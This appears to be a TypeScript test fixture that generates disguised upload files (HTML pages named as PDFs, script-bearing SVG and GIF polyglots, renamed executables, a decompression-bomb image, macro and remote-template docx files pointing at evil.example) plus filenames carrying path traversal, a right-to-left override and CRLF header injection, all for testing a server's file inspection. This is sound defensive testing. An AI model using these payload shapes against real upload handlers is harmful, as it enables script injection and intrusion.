import sharp from 'sharp'
import { archive, contentTypes, docx, relationships } from '../../../support/archive.ts'
import { hugePicture } from '../../../support/huge-picture.ts'
import { compoundFile } from '../../../support/old-word.ts'
import { onePage } from '../../../support/pdf.ts'
import { marker, type Sent } from './uploads.ts'

export interface Disguised extends Sent {
  what: string
  /** Refused wherever it is sent. The others may be kept where they are harmless. */
  isNeverKept: boolean
}

const script = `<script>fetch('/${marker}')</script>`
const page = `<!doctype html><html><body>${script}</body></html>`
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${marker}"><script>1</script></svg>`

const bytes = (text: string) => Buffer.from(text, 'latin1')
const joined = (...parts: (string | Buffer)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? bytes(part) : part)))
const sheet = contentTypes('openxmlformats-officedocument.spreadsheetml.sheet')
const template = relationships({ type: 'attachedTemplate', target: `https://evil.example/${marker}` })

/**
 * Files that are not what they are called, or are something else besides: a few of each kind, to be sent by every call.
 * What is inspected in each kind is tried beside the inspection (features/files/server).
 */
export async function disguisedFiles(): Promise<Disguised[]> {
  const drawn = sharp({ create: { width: 20, height: 20, channels: 3, background: '#0a7f8c' } })
  const gif = await drawn.clone().gif().toBuffer()
  const jpeg = await drawn
    .withExif({ IFD0: { Copyright: script } })
    .jpeg()
    .toBuffer()
  const list: [what: string, name: string, content: string | Buffer][] = [
    ['a page called PDF', 'cv.pdf', page],
    ['a page called PNG', 'logo.png', page],
    ['a page in UTF-16', 'cv.pdf', Buffer.from(`\ufeff${page}`, 'utf16le')],
    ['a page that names PDF further down', 'cv.pdf', `${page}${' '.repeat(900)}%PDF-1.7`],
    ['a page before a PDF', 'cv.pdf', joined(page, onePage())],
    ['a page inside a PDF', 'cv.pdf', onePage(page)],
    ['a page behind a PDF', 'cv.pdf', joined(onePage(), page)],
    ['a drawing with a script', 'logo.svg', svg],
    ['a drawing called PNG', 'logo.png', `<?xml version="1.0"?>${svg}`],
    ['a script called GIF', 'logo.gif', `GIF89a/*${marker}*/=1;alert(1)`],
    ['a picture that goes on as a page', 'logo.gif', joined(gif, page)],
    ['a picture with a page in its metadata', 'photo.jpg', jpeg],
    ['a sound called WebP', 'logo.webp', joined('RIFF', Buffer.alloc(4), 'WAVEfmt ', Buffer.alloc(100))],
    ['a Windows program', 'cv.pdf.exe', joined('MZ', Buffer.alloc(200), `This program ${marker}`)],
    ['a Linux program called DOC', 'cv.doc', joined('\x7fELF', Buffer.alloc(200))],
    ['a shell script called DOCX', 'cv.docx', `#!/bin/sh\necho ${marker}\n`],
    ['an archive called DOCX', 'cv.docx', archive({ 'run.js': marker })],
    ['a sheet called DOCX', 'cv.docx', archive({ '[Content_Types].xml': sheet, 'xl/workbook.xml': '<x/>' })],
    ['an installer called DOC', 'cv.doc', compoundFile({ [marker.slice(0, 30)]: bytes(marker) })],
    ['a rich text called DOC', 'cv.doc', `{\\rtf1{\\object\\objemb ${marker}}}`],
    ['a mail called PDF', 'cv.pdf', `MIME-Version: 1.0\nContent-Type: text/html\n\n${page}`],
    ['nothing at all', 'cv.pdf', ''],
    ['a document that climbs out of its folder', '../../../../site/public/cv.pdf', onePage()],
    ['a document with a second ending and a hidden sign', 'cv.exe\u202efdp.pdf', onePage()],
    ['a document whose name holds a header', 'cv"; x="\r\nset-cookie: planted=1.pdf', onePage()],
    ['a good document of Word', 'cv.html', docx()],
  ]
  const neverKept: typeof list = [
    ['the head of a JPEG', 'slip.jpg', jpeg.subarray(0, 160)],
    ['a small file of 400 million pixels', 'logo.png', hugePicture(20_000)],
    ['a document with macros', 'cv.docx', docx({ 'word/vbaProject.bin': marker })],
    ['a document that loads a template', 'cv.docx', docx({ 'word/_rels/document.xml.rels': template })],
  ]
  return [...list, ...neverKept].map((one, at) => ({
    what: one[0],
    name: one[1],
    content: Buffer.from(one[2]),
    isNeverKept: at >= list.length,
  }))
}
